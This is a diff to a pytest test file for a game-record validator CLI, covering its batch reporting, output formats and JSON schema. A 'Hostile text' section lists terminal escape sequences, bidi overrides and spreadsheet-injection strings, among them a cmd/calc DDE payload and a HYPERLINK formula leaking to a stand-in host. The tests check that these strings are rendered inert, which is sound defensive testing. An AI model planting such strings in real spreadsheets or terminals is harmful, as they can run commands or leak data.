@@ -4,20 +4,31 @@ repo and checked against its expected.json; then the edge cases one by one."""
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import os
+import pickle
+import re
 import shutil
 import subprocess
 import sys
 from pathlib import Path
 from typing import Any
 
+import click
+import jsonschema
 import pytest
+import yaml
 from click.testing import CliRunner
 
-from validator.batch import rank
+from validator.batch import Batch, Entry, EntryError, Problem, find_entries, rank
 from validator.cli import main
+from validator.readers import RECORD_FORMATS
+from validator.render.batch_out import REPORTERS, render_table, summary_lines
+from validator.render.sanitize import csv_cell as _csv_cell
+from validator.render.sanitize import plain_text as _terminal_text
+from validator.replayer import Verdict
 
 ROOT = Path(__file__).resolve().parent.parent
 CASES = Path(__file__).resolve().parent / "batch_cases"
@@ -26,7 +37,11 @@ CASE_NAMES = sorted(p.name for p in CASES.iterdir() if (p / "expected.json").exi
 
 
 def run(*args: str | Path) -> Any:
-    return CliRunner().invoke(main, [str(a) for a in args])
+    argv = [str(a) for a in args]
+    if argv[0] == "batch" and "--jobs" not in argv:
+        # One process: a pool per test costs more than the few entries it checks.
+        argv += ["--jobs", "1"]
+    return CliRunner().invoke(main, argv)
 
 
 def batch_json(folder: Path, *extra: str) -> dict[str, Any]:
@@ -122,7 +137,8 @@ def test_output_json_file_equals_stdout(contest: Path, tmp_path: Path) -> None:
     target = tmp_path / "results.json"
     result = run("batch", contest, "--dice", DICE, "--output", target)
     assert result.exit_code == 0
-    assert f"Wrote 9 entries to {target} (json)." in result.stdout
+    assert result.stdout == ""
+    assert f"road300: wrote 9 entries to {target} (json)" in result.stderr
     assert json.loads(target.read_text()) == batch_json(contest)
 
 
@@ -272,7 +288,8 @@ def test_subprocess_with_a_pool(contest: Path) -> None:
     )  # fmt: skip
     assert done.returncode == 0, done.stderr
     assert json.loads(done.stdout)["summary"]["entries"] == 9
-    assert done.stderr == ""
+    assert done.stderr.startswith("road300: 9 entries: 3 valid")
+    assert len(done.stderr.splitlines()) == 1
 
 
 RANKS = [
@@ -286,6 +303,384 @@ RANKS = [
 
 @pytest.mark.parametrize(("entries", "ranks"), RANKS)
 def test_rank(entries: list[tuple[str, int | None]], ranks: list[int | None]) -> None:
-    dicts = [{"file": f"{n}.yaml", "verdict": v, "score": s} for n, (v, s) in enumerate(entries)]
-    rank(dicts)
-    assert [d["rank"] for d in dicts] == ranks
+    given = [Entry(f"{n}.yaml", Verdict(v), s, None, None) for n, (v, s) in enumerate(entries)]
+    by_file = {e.file: e.rank for e in rank(given)}
+    assert [by_file[e.file] for e in given] == ranks
+
+
+# -- Typed entries and the reporter registry ---------------------------------------------
+
+ACCEPTANCE = sorted(p for p in (ROOT / "tests" / "acceptance").iterdir() if p.is_dir())
+
+
+@pytest.mark.parametrize("case", ACCEPTANCE, ids=[c.name for c in ACCEPTANCE])
+def test_entry_carries_what_validate_says(case: Path) -> None:
+    """An entry's JSON holds every field of `validate --format json`, with the same values,
+    for every kind of result (valid to malformed), so the two never drift apart."""
+    from validator.check import Checker
+    from validator.render.json_out import result_dict
+
+    (record,) = [p for p in case.iterdir() if p.stem == "record"]
+    checker = Checker.create(case / "dice.txt", None)
+    result = checker.check(record, "p/record" + record.suffix)
+    entry = Entry.of(result, "p/record" + record.suffix)
+    as_json = entry.to_json()
+    alone = result_dict(result, file="p/record" + record.suffix)
+    assert {k: as_json[k] for k in alone} == alone
+    assert list(as_json)[:5] == ["file", "verdict", "score", "end", "error"]
+    assert Entry.from_json(json.loads(json.dumps(as_json)), "x") == entry
+    assert pickle.loads(pickle.dumps(entry)) == entry
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        ([], "e: not an object"),
+        ({"file": 3, "verdict": "valid"}, 'e: "file" is not text'),
+        ({"verdict": "valid"}, 'e: no "file"'),
+        ({"file": "a.yaml", "verdict": "won"}, "\"verdict\" is 'won', not one of valid"),
+        ({"file": "a.yaml", "verdict": "valid", "score": "300"}, '"score" is not a whole'),
+        ({"file": "a.yaml", "verdict": "valid", "score": True}, '"score" is not a whole'),
+        ({"file": "a.yaml", "verdict": "valid", "copies": "b.yaml"}, '"copies" is not a list'),
+        ({"file": "a.yaml", "verdict": "valid", "error": {"code": 1}}, 'error: "code" is not text'),
+    ],
+)
+def test_entry_from_bad_json(data: Any, message: str) -> None:
+    with pytest.raises(EntryError, match=re.escape(message)):
+        Entry.from_json(data, "e")
+
+
+def test_format_choices_come_from_the_registry() -> None:
+    from validator.cli.batch import command
+
+    (fmt,) = [p for p in command.params if p.name == "fmt"]
+    assert isinstance(fmt.type, click.Choice)
+    assert list(fmt.type.choices) == sorted(REPORTERS) == ["csv", "json", "table"]
+
+
+def test_docs_table_lists_every_reporter() -> None:
+    text = (ROOT / "docs" / "batch.md").read_text()
+    rows = re.findall(r"^\| `(\w+)` \| `(\.\w+)` \| (.+?) \|$", text, re.M)
+    assert rows == [(r.name, r.suffix, r.about) for r in REPORTERS.values()]
+
+
+def test_docs_name_every_record_extension() -> None:
+    text = (ROOT / "docs" / "batch.md").read_text()
+    listed = re.search(r"record format \((.*?)\)", text, re.S)
+    assert listed is not None
+    assert re.findall(r"`(\.\w+)`", listed.group(1)) == list(RECORD_FORMATS)
+
+
+def test_record_extensions_come_from_the_format_registry(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "a.yaml").write_text("rounds: []\n")
+    (tmp_path / "b.rec").write_text("rounds: []\n")
+    assert find_entries(tmp_path).files == ["a.yaml"]
+    monkeypatch.setitem(RECORD_FORMATS, ".rec", "yaml")
+    assert find_entries(tmp_path).files == ["a.yaml", "b.rec"]
+
+
+# -- Output that scales ------------------------------------------------------------------
+
+
+def _entry(
+    file: str,
+    score: int | None = 300,
+    verdict: str = "valid",
+    error: Problem | None = None,
+    **kw: Any,
+) -> Entry:
+    return Entry(file, Verdict(verdict), score, None, error, **kw)
+
+
+def test_summary_names_at_most_ten() -> None:
+    entries = tuple(rank(_entry(f"p{n:02d}.yaml", 300 + n, player=f"P{n}") for n in range(15)))
+    groups = tuple(tuple(f"g{g}-{n}.yaml" for n in range(4)) for g in range(4))
+    batch = Batch(entries, (), groups)
+    lines = summary_lines(batch, "entries")
+    reached = next(x for x in lines if x.startswith("Reached 300"))
+    assert reached.startswith("Reached 300: 15 (P14 314, P13 313,")
+    assert reached.count(" 3") == 10 + 1  # ten scores, and the count in "and 5 more"
+    assert reached.endswith("P5 305, and 5 more).")
+    copy_lines = lines[lines.index("Copies (4 games played by more than one entry):") + 1 :]
+    named = " ".join(copy_lines[:3])
+    assert named.count(".yaml") == 10
+    assert copy_lines[2] == "  g2-0.yaml = g2-1.yaml = ... (2 more)"
+    assert copy_lines[3] == "  ... and 1 more game played by 4 entries (all in --format json)"
+
+
+def test_summary_with_ten_names_says_no_more() -> None:
+    entries = tuple(rank(_entry(f"p{n}.yaml", player=f"P{n}") for n in range(10)))
+    (reached,) = [x for x in summary_lines(Batch(entries, (), ()), "d") if "Reached" in x]
+    assert "more" not in reached and reached.count("P") == 10
+
+
+LONG = "the recorded move " + "goes on and on " * 20 + "END-OF-MESSAGE"
+
+
+def _long_error_batch() -> Batch:
+    error = Problem("E205", LONG, roll=7)
+    return Batch((_entry("dave.yaml", None, "invalid", error=error),), (), ())
+
+
+def test_table_in_a_file_is_never_cut() -> None:
+    out = io.StringIO()
+    REPORTERS["table"]().write(_long_error_batch(), out, "entries")
+    (row,) = [x for x in out.getvalue().splitlines() if "dave.yaml" in x]
+    assert row.endswith(f"roll 7: E205 {LONG}")
+    assert all(x == x.rstrip() for x in out.getvalue().splitlines())
+
+
+@pytest.mark.parametrize("wide", [False, True])
+def test_terminal_table_cuts_unless_wide(wide: bool) -> None:
+    from rich.console import Console
+
+    console = Console(file=io.StringIO(), width=100, no_color=True)
+    render_table(console, _long_error_batch(), "entries", wide=wide)
+    text = console.file.getvalue()  # type: ignore[attr-defined]
+    assert max(len(x) for x in text.splitlines()) <= 100
+    assert ("END-OF-MESSAGE" in text) is wide
+    assert ("…" in text) is not wide
+
+
+def test_table_to_a_pipe_is_never_cut(contest: Path) -> None:
+    dave = contest / "dave.yaml"
+    dave.write_text(dave.read_text().replace("player:", "player: " + "Long " * 30 + "X"))
+    result = run("batch", contest, "--dice", DICE)
+    (row,) = [x for x in result.stdout.splitlines() if "dave.yaml" in x]
+    assert "Long " * 30 + "X" in row
+    assert "E205" in row and not row.endswith("…")
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv"])
+def test_json_and_csv_on_a_pipe_put_one_summary_line_on_stderr(contest: Path, fmt: str) -> None:
+    result = run("batch", contest, "--dice", DICE, "--format", fmt)
+    assert result.stderr == (
+        "road300: 9 entries: 3 valid, 1 incomplete, 3 invalid, 2 unreadable (malformed); "
+        "reached 300: 2; copies: 1 game; skipped: 3\n"
+    )
+
+
+def test_progress_only_with_a_total() -> None:
+    from rich.console import Console
+
+    from validator.cli.batch import _progress
+
+    err = Console(file=io.StringIO(), force_terminal=True)
+    with _progress(err, 0) as none:
+        assert none is None
+    with _progress(err, 3) as advance:
+        assert advance is not None
+        for _ in range(3):
+            advance(None)
+    assert "Checking entries" in err.file.getvalue()  # type: ignore[attr-defined]
+
+
+@pytest.mark.parametrize(
+    ("name", "fmt", "message"),
+    [
+        ("results.xlsx", None, "does not write .xlsx files"),
+        ("results.xlsx", "csv", "does not write .xlsx files"),
+        ("results.pdf", "table", "does not write .pdf files"),
+        ("results.csv", "json", "the extension .csv says csv, but --format is json"),
+        ("results.txt", "csv", "the extension .txt says table"),
+    ],
+)
+def test_output_extension_must_fit(
+    contest: Path, tmp_path: Path, name: str, fmt: str | None, message: str
+) -> None:
+    args = ["--format", fmt] if fmt else []
+    result = run("batch", contest, "--dice", DICE, "--output", tmp_path / name, *args)
+    assert result.exit_code == 2
+    assert message in result.stderr
+    assert not (tmp_path / name).exists()
+
+
+@pytest.mark.parametrize(
+    ("name", "fmt", "first"),
+    [
+        ("results.txt", None, "Rank"),
+        ("results.TXT", "table", "Rank"),
+        ("results", "json", '{"entries": ['),
+        ("results", None, "Rank"),
+        ("results.CSV", None, "rank,file,player"),
+    ],
+)
+def test_output_in_the_format_it_names(
+    contest: Path, tmp_path: Path, name: str, fmt: str | None, first: str
+) -> None:
+    args = ["--format", fmt] if fmt else []
+    result = run("batch", contest, "--dice", DICE, "--output", tmp_path / name, *args)
+    assert result.exit_code == 0, result.output
+    assert (tmp_path / name).read_text().lstrip().startswith(first)
+
+
+# -- Schema -------------------------------------------------------------------------------
+
+SCHEMA = json.loads((ROOT / "schemas" / "batch.schema.json").read_text())
+
+
+@pytest.mark.parametrize("case", [*CASE_NAMES, "empty"])
+def test_output_matches_the_schema(case: str, tmp_path: Path) -> None:
+    folder = tmp_path / "entries"
+    if case == "empty":
+        folder.mkdir()
+    else:
+        shutil.copytree(CASES / case / "entries", folder)
+    (folder / "notes.md").write_text("not a record\n")
+    jsonschema.Draft202012Validator(SCHEMA).validate(batch_json(folder))
+
+
+def test_schema_is_a_schema_with_an_id() -> None:
+    jsonschema.Draft202012Validator.check_schema(SCHEMA)
+    assert SCHEMA["$schema"] == "https://json-schema.org/draft/2020-12/schema"
+    assert SCHEMA["$id"].endswith("batch.schema.json")
+
+
+def test_schema_entry_fields_are_the_entry_class_and_the_result_fields() -> None:
+    entry = SCHEMA["$defs"]["entry"]["properties"]
+    assert list(entry) == [f.name for f in dataclasses.fields(Entry)]
+    result = json.loads((ROOT / "schemas" / "result.schema.json").read_text())["properties"]
+    assert set(entry) == set(result) - {"rounds"} | {"rank", "copies"}
+
+
+@pytest.mark.parametrize(
+    "spoil",
+    [
+        lambda d: d["entries"][0].update(verdict="won"),
+        lambda d: d["entries"][0].update(surprise=1),
+        lambda d: d["entries"][0].pop("error"),
+        lambda d: d["summary"].update(valid=-1),
+        lambda d: d["skipped"].append({"file": "x"}),
+    ],
+)
+def test_schema_refuses_spoiled_output(contest: Path, spoil: Any) -> None:
+    data = batch_json(contest)
+    spoil(data)
+    with pytest.raises(jsonschema.ValidationError):
+        jsonschema.validate(data, SCHEMA)
+
+
+# -- Hostile text ----------------------------------------------------------------------------
+
+HOSTILE = [
+    "\x1b[2J",
+    "\x1b]0;x\x07",
+    "\x9b",
+    "\u202e",
+    '=HYPERLINK("http://x.example/?leak")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1",
+    "-2+3",
+    "\r=1",
+    "a\x7fb",
+    "\u2066x\u2069",
+]
+RAW_CONTROL = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
+)
+"""Control characters no output may carry raw (newline and tab are the outputs' own)."""
+
+
+def _runs_in_a_spreadsheet(cell: str) -> bool:
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(
+        r"[+-]?\d+(\.\d+)?", cell
+    )
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_terminal_text_shows_controls_as_escapes(text: str) -> None:
+    shown = _terminal_text(text)
+    assert not RAW_CONTROL.search(shown) and "\t" not in shown and "\r" not in shown
+    for c in set(RAW_CONTROL.findall(text) + re.findall("[\t\r]", text)):
+        assert (f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}") in shown
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_csv_cell_is_inert(text: str) -> None:
+    cell = _csv_cell(text)
+    assert isinstance(cell, str)
+    assert not _runs_in_a_spreadsheet(cell)
+    assert not RAW_CONTROL.search(cell) and "\t" not in cell
+    if text.startswith(("=", "+", "-", "@", "\t", "\r")):
+        assert cell.startswith("'")
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [(340, 340), (None, ""), ("-5", "-5"), ("+3", "+3"), ("1.5", "1.5"), ("plain", "plain")],
+)
+def test_csv_numbers_stay_numbers(value: str | int | None, cell: str | int) -> None:
+    assert _csv_cell(value) == cell
+
+
+def test_escapes_are_visible() -> None:
+    assert _terminal_text("\x1b[2J\u202e") == "\\x1b[2J\\u202e"
+    assert _csv_cell("\t=1") == "'\\x09=1"
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    """An inbox whose players and file names try to drive terminals and spreadsheets."""
+    folder = tmp_path / "inbox"
+    folder.mkdir()
+    base = yaml.safe_load((ROOT / "examples" / "alice.yaml").read_text())
+    for n, text in enumerate(HOSTILE):
+        record = yaml.safe_dump({**base, "player": text}, allow_unicode=False)
+        (folder / f"p{n:02d}.yaml").write_text(record)
+    (folder / "=cmd.yaml").write_text(yaml.safe_dump({**base, "player": "=1+1"}))
+    (folder / "\u202eevil.yaml").write_text("rounds: [}\n")
+    (folder / "\x1b[2J.yaml").write_text("player: x\nrounds: []\n")
+    if hasattr(os, "mkfifo"):
+        os.mkfifo(folder / "fifo.yaml")  # reading it would wait forever
+    (folder / "loop.yaml").symlink_to(folder / "loop.yaml")
+    return folder
+
+
+def test_a_hostile_inbox(hostile: Path, tmp_path: Path) -> None:
+    odd = {"fifo.yaml", "loop.yaml"}
+    files = sorted(p.name for p in hostile.iterdir() if p.name not in odd)
+    outputs = {}
+    for fmt in ("table", "json", "csv"):
+        result = run("batch", hostile, "--dice", DICE, "--format", fmt)
+        assert result.exit_code == 0, result.output
+        outputs[fmt] = result
+        for channel in (result.stdout, result.stderr):
+            assert not RAW_CONTROL.search(channel), (fmt, channel)
+    data = json.loads(outputs["json"].stdout)
+    assert sorted(e["file"] for e in data["entries"]) == files  # one entry each
+    reasons = {s["file"]: s["reason"] for s in data["skipped"]}
+    assert "broken or a loop" in reasons["loop.yaml"]
+    if hasattr(os, "mkfifo"):
+        assert reasons["fifo.yaml"] == "not a regular file (a FIFO, socket or device)"
+    players = {e["file"]: e["player"] for e in data["entries"]}
+    assert [players[f"p{n:02d}.yaml"] for n in range(len(HOSTILE))] == HOSTILE  # lossless
+    rows = list(csv.reader(io.StringIO(outputs["csv"].stdout)))
+    assert len(rows) == len(files) + 1
+    for row in rows:
+        for cell in row:
+            assert not _runs_in_a_spreadsheet(cell), cell
+    assert "\\x1b[2J" in outputs["table"].stdout
+    assert "'=HYPERLINK" in outputs["csv"].stdout
+    results = tmp_path / "results.json"
+    run("batch", hostile, "--dice", DICE, "-o", results)
+    drawn = draw_run(results)
+    assert not RAW_CONTROL.search(drawn.stdout + drawn.stderr)
+    assert drawn.exit_code == 0
+
+
+def draw_run(results: Path) -> Any:
+    return run("draw", results, "--winners", "20", "--seed", "s")
+
+
+def test_names_are_not_rich_markup_or_emoji() -> None:
+    from rich.console import Console
+
+    name = "[b]x[/] :smile:"
+    batch = Batch(tuple(rank([_entry("a.yaml", player=name)])), (), ())
+    console = Console(file=io.StringIO(), width=200, no_color=True)
+    render_table(console, batch, "entries")
+    text = console.file.getvalue()  # type: ignore[attr-defined]
+    assert text.count(name) == 2  # the table row and "Reached 300"
